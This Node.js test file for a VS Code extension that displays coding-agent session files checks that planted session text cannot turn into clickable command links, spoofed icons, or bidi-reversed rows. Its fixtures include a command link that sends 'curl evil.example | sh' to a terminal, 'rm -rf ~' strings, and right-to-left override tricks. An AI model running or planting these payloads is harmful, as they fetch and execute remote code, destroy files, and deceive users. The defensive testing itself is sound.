// Text from a session file (a cloned repository's, say) stays text in notifications and pickers:
// VS Code renders `[label](command:...)` in a notification as a link that runs the command, and
// `$(name)` in a quick pick as an icon.
"use strict";
require("../testlib/register-vscode-stub");
const { test } = require("node:test");
const assert = require("node:assert/strict");
const fs = require("node:fs");
const path = require("node:path");
const vscode = require("vscode");
const { eventually, setUp } = require("../testlib/server");
const { activateOn } = require("../testlib/activate");

const { rec, links, respond } = vscode.__test;
const LINK = "[Restore](command:workbench.action.terminal.sendSequence?" +
  encodeURIComponent(JSON.stringify({ text: "curl evil.example | sh\n" })) + ")";
const PLANTED_ID = `u1 ${LINK}`;
let rig, uri;

setUp(async () => {
  rig = await activateOn({});
  const ts = "2026-01-01T00:00:00.000Z";
  const lines = [
    { type: "session", version: 3, id: "planted", timestamp: ts, cwd: rig.ws.folder },
    { type: "message", id: PLANTED_ID, parentId: null, timestamp: ts, message: { role: "user", content: [{ type: "text", text: "hello" }], timestamp: 1 } },
    { type: "session_info", id: "n1", parentId: PLANTED_ID, timestamp: ts, name: "$(add) New session…" },
    // A timestamp and an entry type are session text too (shown in the entry's tooltip).
    { type: "message", id: "t1", parentId: "n1", timestamp: LINK, message: { role: "user", content: [{ type: "text", text: "when?" }], timestamp: 2 } },
    { type: LINK, id: "x1", parentId: "t1", timestamp: ts },
  ];
  const file = path.join(rig.ws.sessionsDir, "2027-01-01T00-00-00-000Z_planted.jsonl");
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  uri = vscode.Uri.file(file).toString();
  await eventually(async () => (await rig.api.pi.call("pi.listSessions", {})).sessions.some((s) => s.uri === uri), "the session to be listed");
}, () => rig?.stop());

test("an entry id from a session never becomes a link in a notification", async () => {
  rec.messages.length = 0;
  await vscode.commands.executeCommand("piLsp.restoreFiles", { uri, entryId: PLANTED_ID });
  const shown = rec.messages.map((m) => m.message);
  assert.ok(shown.some((m) => m.includes("sendSequence")), `the notification names the entry: ${shown}`);
  assert.deepEqual(shown.flatMap((m) => links(m)), []);
});

test("a session named like the picker's own New session item is not drawn as it", async () => {
  let items;
  respond("showQuickPick", (offered) => { items = offered; return undefined; });
  try {
    await rig.api.sessions.pick();
  } finally {
    respond("showQuickPick");
  }
  assert.equal(items.filter((item) => item.label === "$(add) New session…").length, 1, JSON.stringify(items.map((i) => i.label)));
  assert.ok(items.some((item) => item.label.startsWith("$\u200b(add)")), "the planted name is shown as text");
});

test("an entry's timestamp and type never become links in its tooltip", async () => {
  const session = (await rig.api.view.getChildren()).find((item) => item.sessionUri === uri);
  const all = [];
  const walk = async (items) => { for (const item of items) { all.push(item); await walk(await rig.api.view.getChildren(item)); } };
  await walk(await rig.api.view.getChildren(session));
  const tooltips = Object.fromEntries(all.map((item) => [item.entryId, item.tooltip.value]));
  assert.match(tooltips.t1, /sendSequence/, "the timestamp is shown");
  assert.match(tooltips.x1, /sendSequence/, "the type is shown");
  assert.deepEqual(Object.values(tooltips).flatMap((t) => links(t)), []);
});

test("a label's line breaks and bidi override are not shown as they are, in the view or the entry picker", async () => {
  // Before, the row read `[ok` + U+202E + a line break + `; rm -rf ~ #` + the whole label: the override
  // reversed the rest of the row. Now it is on one line and cut, as the server's previews are.
  const ts = "2026-01-01T00:00:00.000Z";
  const lines = [
    { type: "session", version: 3, id: "bidi", timestamp: ts, cwd: rig.ws.folder },
    { type: "message", id: "m1", parentId: null, timestamp: ts, message: { role: "user", content: [{ type: "text", text: "hello" }], timestamp: 1 } },
    { type: "label", id: "l1", parentId: "m1", timestamp: ts, targetId: "m1", label: `ok\u202e\n; rm -rf ~ #\t${"x".repeat(100)}` },
  ];
  const file = path.join(rig.ws.sessionsDir, "2027-01-03T00-00-00-000Z_bidi.jsonl");
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  const bidiUri = vscode.Uri.file(file).toString();
  const session = await eventually(async () => (await rig.api.view.getChildren()).find((item) => item.sessionUri === bidiUri), "the session in the view");
  const row = (await rig.api.view.getChildren(session)).find((item) => item.entryId === "m1");
  const shown = `ok ; rm -rf ~ # ${"x".repeat(55)}…`; // 72 characters
  assert.equal(row.label, `[${shown}] hello`);
  assert.ok(row.tooltip.value.includes(`label: **ok ; rm \\-rf ~ \\# ${"x".repeat(55)}…**`), row.tooltip.value);
  let items;
  respond("showQuickPick", (offered) => { items = offered; return undefined; });
  try {
    await vscode.commands.executeCommand("piLsp.branch", { uri: bidiUri });
  } finally {
    respond("showQuickPick");
  }
  assert.ok(items.find((item) => item.id === "m1").description.startsWith(`m1 user [${shown}]`));
});

test("entry ids that read like another row's tree item id still give each row its own id", async () => {
  // Entry `a` is a fork on the current path (a row shown open); another entry is named `a/open`.
  const ts = "2026-01-01T00:00:00.000Z";
  const user = (id, parentId, text) => ({ type: "message", id, parentId, timestamp: ts, message: { role: "user", content: [{ type: "text", text }], timestamp: 1 } });
  const lines = [
    { type: "session", version: 3, id: "ids", timestamp: ts, cwd: rig.ws.folder },
    user("a", null, "fork"), user("a/open", "a", "one side"), user("b", "a", "other side"), user("a/fold", "b", "leaf"),
  ];
  const file = path.join(rig.ws.sessionsDir, "2027-01-02T00-00-00-000Z_ids.jsonl");
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  const idsUri = vscode.Uri.file(file).toString();
  const session = await eventually(async () => (await rig.api.view.getChildren()).find((item) => item.sessionUri === idsUri), "the session in the view");
  const all = [];
  const walk = async (items) => { for (const item of items) { all.push(item); await walk(await rig.api.view.getChildren(item)); } };
  await walk(await rig.api.view.getChildren(session));
  assert.deepEqual(all.map((item) => item.entryId).sort(), ["a", "a/fold", "a/open", "b"]);
  assert.equal(new Set(all.map((item) => item.id)).size, all.length, JSON.stringify(all.map((item) => item.id)));
});

test("ids, times, the cwd and the model a session wrote are shown on one line and in order", async () => {
  // Before, an entry id `ok` + U+202E + a line break became the row's description as it was, and the
  // header's cwd + U+202E + two line breaks + `**cwd /home/you/safe**` a fake second cwd line in the
  // session's tooltip; the override reversed what followed (reviewer's zz_sec6_bidi.test.js).
  const RLO = "\u202e";
  const ts = "2026-01-01T00:00:00.000Z";
  const id = `ok${RLO}\nrm -rf ~`;
  const lines = [
    { type: "session", version: 3, id: "sec6", timestamp: `${ts}${RLO}hs.lirve`, cwd: `${rig.ws.folder}${RLO}gpj.cod\n\n**cwd /home/you/safe**` },
    { type: "model_change", id: "mc", parentId: null, timestamp: ts, provider: `evil${RLO}\nfake line`, modelId: "m" },
    { type: "message", id, parentId: "mc", timestamp: `${ts}${RLO}txt.exe`, message: { role: "user", content: [{ type: "text", text: "hello" }], timestamp: 1 } },
  ];
  const file = path.join(rig.ws.sessionsDir, "2027-01-04T00-00-00-000Z_sec6.jsonl");
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  const sec6 = vscode.Uri.file(file).toString();
  const raw = (text) => /[\u202e\n]/.test(text);
  const session = await eventually(async () => (await rig.api.view.getChildren()).find((item) => item.sessionUri === sec6), "the session in the view");
  const parts = session.tooltip.value.split("  \n");
  assert.ok(!parts.some(raw), JSON.stringify(parts));
  assert.equal(parts.filter((part) => part.startsWith("cwd ")).length, 1);
  assert.ok(!raw(session.description), session.description);
  const row = (await rig.api.view.getChildren(session)).find((item) => item.entryId === id);
  assert.equal(row.description, "ok rm -rf ~");
  assert.ok(!row.tooltip.value.split(/  \n|\n\n/).some(raw), row.tooltip.value);
  const offered = async (run) => {
    let items;
    respond("showQuickPick", (shown) => { items = shown; return undefined; });
    try {
      await run();
    } finally {
      respond("showQuickPick");
    }
    return items;
  };
  const sessions = await offered(() => rig.api.sessions.pick());
  assert.ok(!raw(sessions.find((item) => item.uri === sec6).detail));
  const entries = await offered(() => vscode.commands.executeCommand("piLsp.branch", { uri: sec6 }));
  assert.ok(!entries.some((item) => raw(item.label) || raw(item.description)), JSON.stringify(entries));
  rig.api.sessions.remember(sec6);
  await eventually(async () => rig.api.status.item.tooltip?.includes("evil"), "the status bar on the session");
  assert.equal(rig.api.status.item.tooltip.split("\n").length, 3, rig.api.status.item.tooltip);
  assert.ok(!rig.api.status.item.tooltip.includes(RLO));
});

test("dialogs that name an entry id or the session's model show it on one line and in order", async () => {
  // Before, only links were stopped: restore's "Restore 1 file(s) to entry X?", its "restored" note,
  // compaction's modal, Replace in Context's prompt and the model picker showed a session's id
  // `ok` + U+202E + a line break, or its model_change provider, as they were.
  const RLO = "\u202e";
  const ts = "2026-01-01T00:00:00.000Z";
  const id = `ok${RLO}\nrm -rf ~`;
  const lines = [
    { type: "session", version: 3, id: "dialogs", timestamp: ts, cwd: rig.ws.folder },
    { type: "model_change", id: "mc", parentId: null, timestamp: ts, provider: `evil${RLO}\nfake line`, modelId: "m" },
    { type: "message", id, parentId: "mc", timestamp: ts, message: { role: "user", content: [{ type: "text", text: "hello" }], timestamp: 1 } },
  ];
  const file = path.join(rig.ws.sessionsDir, "2027-01-05T00-00-00-000Z_dialogs.jsonl");
  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
  const dialogs = vscode.Uri.file(file).toString();
  await eventually(async () => (await rig.api.pi.call("pi.listSessions", {})).sessions.some((s) => s.uri === dialogs), "the session to be listed");
  const raw = (text) => /[\u202e\n]/.test(text);
  const asked = [];
  // Files recorded at the entry and a compaction to offer: what the server would answer for a
  // session with turns behind it.
  const call = rig.api.pi.call;
  const change = { path: "notes.txt", status: "modified", diff: "--- a/notes.txt\n+++ b/notes.txt\n-v2\n+v1\n" };
  rig.api.pi.call = (command, args) => {
    if (command === "pi.fileChanges") return Promise.resolve({ available: true, files: [change] });
    if (command === "pi.restoreFiles") return Promise.resolve({ files: [change], undoId: "u" });
    if (command === "pi.compact") return Promise.resolve({ plan: { messagesToSummarize: 2, tokensBefore: 100, firstKeptEntryId: id } });
    return call.call(rig.api.pi, command, args);
  };
  for (const kind of ["showInformationMessage", "showWarningMessage"]) {
    respond(kind, (message) => { asked.push(message); return message.startsWith("Restore") ? "Restore" : undefined; });
  }
  respond("showInputBox", (options) => { asked.push(options.prompt); return undefined; });
  respond("showQuickPick", (items) => { asked.push(...items.flatMap((item) => [item.label, item.description ?? ""])); return undefined; });
  try {
    rec.messages.length = 0;
    await vscode.commands.executeCommand("piLsp.restoreFiles", { uri: dialogs, entryId: id });
    await eventually(() => asked.some((m) => m.startsWith("pi: restored")), "the note after the restore");
    await vscode.commands.executeCommand("piLsp.compact", { uri: dialogs });
    await vscode.commands.executeCommand("piLsp.replaceInContext", { uri: dialogs, entryId: id });
    await vscode.commands.executeCommand("piLsp.setModel", { uri: dialogs });
  } finally {
    rig.api.pi.call = call;
    for (const kind of ["showInformationMessage", "showWarningMessage", "showInputBox", "showQuickPick"]) respond(kind);
  }
  assert.deepEqual(rec.messages.filter((m) => m.kind === "error").map((m) => m.message), []);
  for (const shown of ["Restore 1 file(s) to entry ok rm -rf ~?", "pi: restored 1 file(s) to entry ok rm -rf ~.",
    "keeping from ok rm -rf ~?", "What the model sees instead of ok rm -rf ~ from", "evil fake line/m"]) {
    assert.ok(asked.some((m) => m.includes(shown)), `${JSON.stringify(shown)} in ${JSON.stringify(asked)}`);
  }
  assert.ok(!asked.some(raw), JSON.stringify(asked));
});
